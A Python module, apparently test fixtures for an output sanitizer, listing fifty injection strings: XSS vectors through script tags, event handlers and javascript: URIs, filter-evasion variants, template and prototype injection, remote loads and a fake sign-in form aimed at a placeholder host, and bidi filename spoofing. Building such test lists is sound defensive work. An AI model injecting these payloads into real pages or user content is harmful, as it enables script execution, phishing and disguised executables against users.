"""Texts that would run, load, restyle or rename something if any of them were taken for more than text."""

from __future__ import annotations

RUN = "canary(1)"
HTML = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src=//elsewhere.invalid/x.js>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="/missing.png" onerror="{RUN}">',
    f"<IMG SRC=x oNeRrOr={RUN}//",
    f"<img/src=`x`onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<div style=animation-name:spin onanimationstart={RUN}>",
    f"<marquee onstart={RUN}>m</marquee>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    "<base href=//elsewhere.invalid/>",
    "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<style>*{display:none}</style>",
    "<form action=//elsewhere.invalid/><button>Sign in</button></form>",
)
SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>t</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
)
MARKDOWN = (
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt&colon;{RUN})",
    f"[press](data:text/html;base64,PHNjcmlwdD4 '{RUN}')",
    f"![picture](x' onerror='{RUN})",
    "![picture](https://elsewhere.invalid/x.png)",
    f"<javascript:{RUN}>",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>#{{{RUN}}}",
    f"[].constructor.constructor('{RUN}')()",
    "datum['__proto__'].constructor",
)
BIDI = (
    "invoice\u202egnp.exe",
    "\u2066\u2067abc\u2069 \u200fdef\u200e",
    "\u202e\u202d" * 3 + f"<script>{RUN}</script>",
)
PAYLOADS = (*HTML, *SVG, *MARKDOWN, *TEMPLATES, *BIDI)
assert len(PAYLOADS) == 50
